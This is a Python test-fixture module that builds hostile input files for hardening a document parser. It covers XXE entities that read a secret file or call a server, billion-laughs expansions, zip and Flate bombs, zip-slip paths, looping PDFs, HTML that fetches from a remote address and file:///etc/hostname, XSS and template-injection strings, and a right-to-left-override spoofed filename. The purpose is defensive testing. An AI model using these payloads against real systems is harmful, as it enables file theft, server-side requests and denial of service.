"""Files that mean harm, one of each kind and more: what they try, none of them may get."""

import zlib
from email.message import EmailMessage
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

SAID = "The minister met the envoy in the capital on Monday and thanked her for it."
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]>"
)


def outside(path):
    """A DOCTYPE that includes a file or an address."""
    return f'<!DOCTYPE x [<!ENTITY out SYSTEM "{path}"><!ENTITY % par SYSTEM "{path}"> %par;]>'


def packed(members):
    """A ZIP file."""
    data = BytesIO()
    with ZipFile(data, "w", ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return data.getvalue()


def docx(body, doctype="", **more):
    """A Word document with this body."""
    return packed(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": f"{doctype}<w:document {W}><w:body>{body}</w:body></w:document>",
            **more,
        }
    )


def odt(body, doctype=""):
    """An OpenDocument text with this body."""
    urn = "urn:oasis:names:tc:opendocument:xmlns"
    office = f'xmlns:o="{urn}:office:1.0" xmlns:t="{urn}:text:1.0"'
    root = f"o:document-content {office}"
    return packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f"{doctype}<{root}><o:body><o:text>{body}</o:text></o:body></o:document-content>",
        }
    )


def pdf(objects, root="1 0 R"):
    """A PDF of these objects, with no table of them."""
    body = b"".join(f"{n} 0 obj\n".encode() + o + b"\nendobj\n" for n, o in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + body + f"trailer << /Root {root} /Size {len(objects) + 1} >>\n%%EOF".encode()


def page(address, stream, filters=b""):
    """A PDF of one page with this content stream."""
    return pdf(
        [
            f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI ({address}/pdf) >> >>".encode(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
            b"/Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> "
            b"/XObject << /X 4 0 R >> >> >>",
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >> "
            + filters
            + f"/Length {len(stream)} >>\nstream\n".encode()
            + stream
            + b"\nendstream",
        ]
    )


def mail(**attachments):
    """A mail with attachments."""
    message = EmailMessage()
    message["From"] = "a@example.org"
    message["Subject"] = "Readout"
    message["Message-ID"] = "<1@example.org>"
    message.set_content(SAID)
    for name, data in attachments.items():
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return bytes(message)


def baits(address):
    """HTML that asks for an address in every way that is known."""
    return f"""<html><head><title>Readout</title><base href="{address}/base"><link rel=stylesheet href="{address}/css">
<link rel=icon href="{address}/icon"><meta http-equiv=refresh content="0;url={address}/refresh">
<style>@import url({address}/import); body {{ background: url({address}/back) }} @font-face {{ src: url({address}/font) }}
</style><script src="{address}/script"></script></head><body background="{address}/body">
<p>{SAID} They spoke about the dam for two hours, and the envoy was glad to hear what the minister had to say.</p>
<img src="{address}/img" srcset="{address}/set 2x"><picture><source srcset="{address}/source"></picture>
<iframe src="{address}/frame"></iframe><object data="{address}/object"></object><embed src="{address}/embed">
<svg><image href="{address}/svg"/><use href="{address}/use#x"/></svg><video poster="{address}/poster" src="{address}/video">
</video><audio src="{address}/audio"></audio><img src="file:///etc/hostname"><iframe src="file:///etc/hostname"></iframe>
<form action="{address}/form"><input type=image src="{address}/input"></form><p style="background:url({address}/style)">
The two sides agreed to meet again in the spring, the ministry said in a statement on its page.</p></body></html>"""


def files(address, secret):
    """Name and bytes of every hostile file.

    Args:
        address: of a server that should never be asked.
        secret: path of a file that should never be read.
    """
    bomb = packed({f"{n}.txt": bytes(9 << 20) for n in range(50)})
    flate = zlib.compress(zlib.compress(bytes(200 << 20), 9), 9)
    text = f"<w:p><w:r><w:t>{SAID}</w:t></w:r></w:p>"
    return {
        "baits.html": baits(address).encode(),
        "deep.html": b"<div>" * 200_000 + SAID.encode(),
        "wide.html": b"<html>" + b"<b></b>" * 60_000,
        "attributes.html": b"<html><p " + b"a=1 " * 200_000 + b">" + SAID.encode(),
        "entities.html": f"{LAUGHS}<html><body><p>&a11; {SAID}</p></body></html>".encode(),
        "bomb.docx": docx("<w:p/>", **{"word/media/x": bytes(400 << 20)}),
        "laughs.docx": docx(f"<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>{text}", LAUGHS),
        "outside.docx": docx(f"<w:p><w:r><w:t>&out;</w:t></w:r></w:p>{text}", outside(secret)),
        "address.docx": docx(f"<w:p><w:r><w:t>&out;</w:t></w:r></w:p>{text}", outside(f"{address}/dtd")),
        "deep.docx": docx("<w:sdt>" * 5000 + text + "</w:sdt>" * 5000),
        "styles.docx": docx(
            text,
            **{
                "word/styles.xml": f"<w:styles {W}><w:style w:styleId='a'><w:basedOn w:val='b'/></w:style><w:style w:styleId='b'><w:basedOn w:val='a'/></w:style></w:styles>"
            },
        ),
        "laughs.odt": odt(f"<t:p>&a11;</t:p><t:p>{SAID}</t:p>", LAUGHS),
        "outside.odt": odt(f"<t:p>&out;</t:p><t:p>{SAID}</t:p>", outside(secret)),
        "loop.pdf": pdf(
            [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"]
        ),
        "itself.pdf": page(address, b"BT /F 12 Tf 50 700 Td (They met.) Tj ET /X Do"),
        "count.pdf": pdf(
            [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 2000000000 >>"]
        ),
        "flate.pdf": page(address, flate, b"/Filter [/FlateDecode /FlateDecode] "),
        "stack.pdf": pdf([b"[" * 100_000]),
        "laughs.xml": f"{LAUGHS}<rss><channel><item><description>&a11; {SAID}</description></item></channel></rss>".encode(),
        "outside.xml": f"{outside(secret)}<rss><channel><item><description>{SAID} &out;</description></item></channel></rss>".encode(),
        "bomb.zip": bomb,
        "inside.zip": packed({"1.zip": packed({"2.zip": packed({"3.zip": packed({"4.zip": bomb})})})}),
        "climbing.zip": packed(
            {"../../climbed.txt": SAID, "/rooted.txt": SAID + " Again.", "C:\\drive.txt": SAID + " Thrice."}
        ),
        "folded.eml": mail().replace(b"Subject:", b"X: " + b"\n ".join([b"x"] * 50_000) + b"\nSubject:"),
        "parts.eml": b"".join(
            b"Message-ID: <1>\nMIME-Version: 1.0\nFrom: a@b\nContent-Type: multipart/mixed; boundary=b%d\n\n--b%d\n"
            % (n, n)
            for n in range(3000)
        ),
        "attached.eml": mail(**{"../../climbed.txt": (SAID + " Up.").encode(), "bomb.zip": bomb}),
        "deep.json": b'{"text": ' + b"[" * 200_000,
        "number.json": b'{"text": ' + b"9" * 1_000_000 + b"}",
        "deep.md": b">" * 20_000 + SAID.encode(),
        "links.md": b"[" * 20_000 + SAID.encode() + b"](" * 20_000,
        "stars.md": b"*a **b " * 20_000,
        "template.md": (
            SAID + "\n\n# {{ 7 * 7 }} {% include 'note.html.jinja' %} ${7*7}\n\n" + SAID + " Again."
        ).encode(),
        "marks.txt": (
            '=HYPERLINK("http://example.org") and {{ 7 * 7 }} and {HYPERLINK} were words that the minister used.\n\n'
            "<script>alert(1)</script> The envoy \u202edetnaw eh tahw\u202c said, and [she](javascript:alert(1)) left.\n\n"
            "The \x1b[31mminister\x1b[0m met the \x08\x07envoy in the capital on Monday and thanked her for it.\n"
        ).encode(),
        "pаssport\u202efdp.txt": (SAID + " The name of this file is written with another alphabet.").encode(),
    }
